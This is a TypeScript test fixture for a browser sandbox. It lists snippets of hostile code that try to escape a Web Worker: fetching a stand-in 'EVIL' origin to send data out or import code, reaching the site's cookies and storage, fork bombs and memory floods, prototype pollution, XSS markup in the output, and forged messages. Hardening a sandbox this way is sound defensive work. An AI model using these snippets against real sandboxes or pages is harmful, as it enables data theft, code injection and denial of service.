/**
 * What hostile user code tries in the Worker. Each prints `LEAK …` when it gets what it wants;
 * EVIL and SITE become origins, ID the attack's own path, so that hits can be told apart.
 */

export interface Attack {
  readonly id: string;
  readonly title: string;
  /** Statements of an async function; a throw counts as "did not work". */
  readonly code: string;
}

/** Ways to send something out, or to fetch code. */
export const network: readonly Attack[] = [
  {
    id: 'fetch',
    title: 'fetch another origin',
    code: `await fetch('EVIL/ID', { mode: 'no-cors' }); say('LEAK fetch');`,
  },
  {
    id: 'fetch-site',
    title: 'fetch the site with its cookies',
    code: `const r = await fetch('SITE/', { credentials: 'include' }); say('LEAK ' + (await r.text()).length);`,
  },
  {
    id: 'xhr',
    title: 'XMLHttpRequest',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'EVIL/ID', false); x.send(); say('LEAK xhr');`,
  },
  {
    id: 'websocket',
    title: 'WebSocket',
    code: `const s = new WebSocket('EVIL/ID'.replace('http', 'ws'));
      await new Promise((ok, no) => { s.onopen = ok; s.onerror = no; }); say('LEAK ws');`,
  },
  {
    id: 'eventsource',
    title: 'EventSource',
    code: `const s = new EventSource('EVIL/ID');
      await new Promise((ok, no) => { s.onopen = ok; s.onerror = no; }); say('LEAK es');`,
  },
  {
    id: 'webtransport',
    title: 'WebTransport',
    code: `await new WebTransport('EVIL/ID'.replace('http:', 'https:')).ready; say('LEAK wt');`,
  },
  {
    id: 'beacon',
    title: 'sendBeacon',
    code: `if (navigator.sendBeacon('EVIL/ID', 'x')) say('LEAK beacon');`,
  },
  {
    id: 'import-scripts',
    title: 'importScripts from another origin',
    code: `importScripts('EVIL/ID'); say('LEAK importScripts');`,
  },
  {
    id: 'import',
    title: 'import() from another origin',
    code: `await import(/* as is */ 'EVIL/ID'); say('LEAK import');`,
  },
  {
    id: 'import-site',
    title: 'import() of the site’s own script',
    code: `await import('SITE/page.js'); say('LEAK import');`,
  },
  {
    id: 'import-data',
    title: 'import() of a data: URL',
    code: `await import('data:text/javascript,export default 1'); say('LEAK data');`,
  },
  {
    id: 'import-in-blob',
    title: 'import() from a blob module of its own making',
    code: `const u = URL.createObjectURL(new Blob(["import 'EVIL/ID'"], { type: 'text/javascript' }));
      await import(u); say('LEAK import');`,
  },
  {
    id: 'font',
    title: 'a font from another origin',
    code: `await new FontFace('a', 'url(EVIL/ID)').load(); say('LEAK font');`,
  },
  {
    id: 'nested-remote-worker',
    title: 'a nested Worker from another origin',
    code: `const w = new Worker('EVIL/ID');
      await new Promise((ok, no) => { w.onmessage = ok; w.onerror = no; }); say('LEAK worker');`,
  },
  {
    id: 'nested-worker-fetch',
    title: 'a nested Worker with a fresh global scope',
    code: `const u = URL.createObjectURL(new Blob(["fetch('EVIL/ID').then(() => postMessage('LEAK nested'), () => postMessage('blocked'))"]));
      const w = new Worker(u); say(await new Promise((ok, no) => { w.onmessage = (e) => ok(e.data); w.onerror = no; }));`,
  },
  {
    id: 'webrtc',
    title: 'WebRTC',
    code: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:1' }] }); say('LEAK rtc');`,
  },
];

/** Ways to the site's storage, documents and identity. */
export const storage: readonly Attack[] = [
  {
    id: 'indexeddb',
    title: 'IndexedDB',
    code: `await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no; });
      say('LEAK idb');`,
  },
  { id: 'caches', title: 'Cache storage', code: `await caches.open('x'); say('LEAK caches');` },
  {
    id: 'opfs',
    title: 'the private file system',
    code: `await navigator.storage.getDirectory(); say('LEAK opfs');`,
  },
  {
    id: 'names',
    title: 'document, storage, cookies, parent',
    code: `for (const name of ['document', 'localStorage', 'sessionStorage', 'cookieStore', 'parent', 'top', 'opener'])
        if (typeof globalThis[name] !== 'undefined') say('LEAK ' + name);`,
  },
  {
    id: 'broadcast',
    title: 'a BroadcastChannel to the site',
    code: `new BroadcastChannel('probe').postMessage('LEAK');`,
  },
  {
    id: 'address',
    title: 'the site’s address',
    code: `if (String(globalThis.location?.href).includes('localhost')) say('LEAK address');`,
  },
  {
    id: 'origin',
    title: 'an origin of its own',
    code: `if (globalThis.origin !== 'null') say('LEAK origin ' + globalThis.origin);`,
  },
  {
    id: 'devices',
    title: 'locks, USB, HID, GPU',
    code: `const tries = { locks: () => navigator.locks.request('a', () => {}), usb: () => navigator.usb.getDevices(),
        hid: () => navigator.hid.getDevices(), serial: () => navigator.serial.getPorts() };
      for (const name of Object.keys(tries)) await tries[name]().then(() => say('LEAK ' + name), () => {});`,
  },
  {
    id: 'notification',
    title: 'a permission prompt',
    code: `if ((await Notification.requestPermission()) === 'granted') say('LEAK permission');`,
  },
  { id: 'eval', title: 'eval', code: `if ((0, eval)('1') === 1) say('LEAK eval');` },
  {
    id: 'function',
    title: 'new Function',
    code: `if (Function('return 1')() === 1) say('LEAK Function');`,
  },
  {
    id: 'wasm',
    title: 'WebAssembly, which this policy does not grant',
    code: `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); say('LEAK wasm');`,
  },
  {
    id: 'shared-memory',
    title: 'shared memory and a fine clock',
    code: `if (globalThis.crossOriginIsolated) say('LEAK isolated');
      if (typeof SharedArrayBuffer !== 'undefined') say('LEAK SharedArrayBuffer');`,
  },
];

/** Programs that try to hurt the page; the engine must end them, or survive them. */
export const abuse: readonly Attack[] = [
  { id: 'loop', title: 'an endless loop', code: `for (;;);` },
  {
    id: 'microtasks',
    title: 'endless microtasks',
    code: `const again = () => Promise.resolve().then(again); again(); await new Promise(() => {});`,
  },
  {
    id: 'fork',
    title: 'fifty nested Workers that spin',
    code: `const u = URL.createObjectURL(new Blob(['for (;;);']));
      for (let i = 0; i < 50; i++) new Worker(u); for (;;);`,
  },
  { id: 'recursion', title: 'deep recursion', code: `const f = () => f() + 1; f();` },
  {
    id: 'strings',
    title: 'a string that doubles for ever',
    code: `let s = 'x'; for (;;) s += s;`,
  },
  {
    id: 'output',
    title: 'two million lines',
    code: `for (let i = 0; i < 2e6; i++) say('flood ' + i);`,
  },
  { id: 'one-line', title: 'one line of 50 MB', code: `say('x'.repeat(5e7));` },
  {
    id: 'errors',
    title: 'twenty thousand thrown errors',
    code: `for (let i = 0; i < 2e4; i++) setTimeout(() => { throw new Error('x'.repeat(1000)); });`,
  },
  {
    id: 'rejections',
    title: 'fifty thousand rejections',
    code: `for (let i = 0; i < 5e4; i++) Promise.reject(new Error('r' + i));`,
  },
  {
    id: 'timers',
    title: 'a storm of intervals',
    code: `for (let i = 0; i < 1e4; i++) setInterval(() => {}, 1);`,
  },
  {
    id: 'getters',
    title: 'values that fight being shown',
    code: `const o = { get a() { throw 1; } }; o.o = o; console.log(o);
      console.log(new Proxy({}, { get() { throw 2; }, ownKeys() { throw 3; } }));`,
  },
  {
    id: 'prototypes',
    title: 'broken built-ins',
    code: `JSON.stringify = () => '{"type":"end","reason":"exit","code":"<img>"}';
      Array.prototype.push = function () {}; Promise.prototype.then = function () {}; say('x');`,
  },
  {
    id: 'pollution',
    title: 'keys that pollute',
    code: `globalThis[Symbol.for('backend-architect.trace')]?.(JSON.parse('{"__proto__":{"polluted":1},"kind":"note","run":"x","text":"y","atMs":1}'));
      say('{"__proto__":{"polluted":1}}');`,
  },
  {
    id: 'markup',
    title: 'markup and control characters in output',
    code: `say('<img src=x onerror="parent.pwned=1">\\u001b]0;x\\u0007\\u202E</pre><script>top.pwned=1</script>');`,
  },
];

/** Raw messages, which only code without the engine's own prelude can send. */
export const forged: readonly Attack[] = [
  { id: 'object', title: 'an object instead of a string', code: `postMessage({ type: 'said' });` },
  {
    id: 'port',
    title: 'a message with a port',
    code: `postMessage('{"type":"pong"}', [new MessageChannel().port1]);`,
  },
  { id: 'no-json', title: 'no JSON', code: `postMessage('}{');` },
  { id: 'unknown', title: 'an unknown type', code: `postMessage('{"type":"admin"}');` },
  {
    id: 'bad-code',
    title: 'an exit code out of range',
    code: `postMessage('{"type":"end","reason":"exit","code":1e9}');`,
  },
  {
    id: 'bad-text',
    title: 'output that is no text',
    code: `postMessage('{"type":"said","items":[{"stream":"stdout","text":{"a":1}}]}');`,
  },
  {
    id: 'small-flood',
    title: 'small messages without end',
    code: `for (;;) postMessage('{"type":"said","items":[{"stream":"stdout","text":"f"}]}');`,
  },
  { id: 'huge', title: 'a message of 100 MB', code: `postMessage('x'.repeat(1e8));` },
];
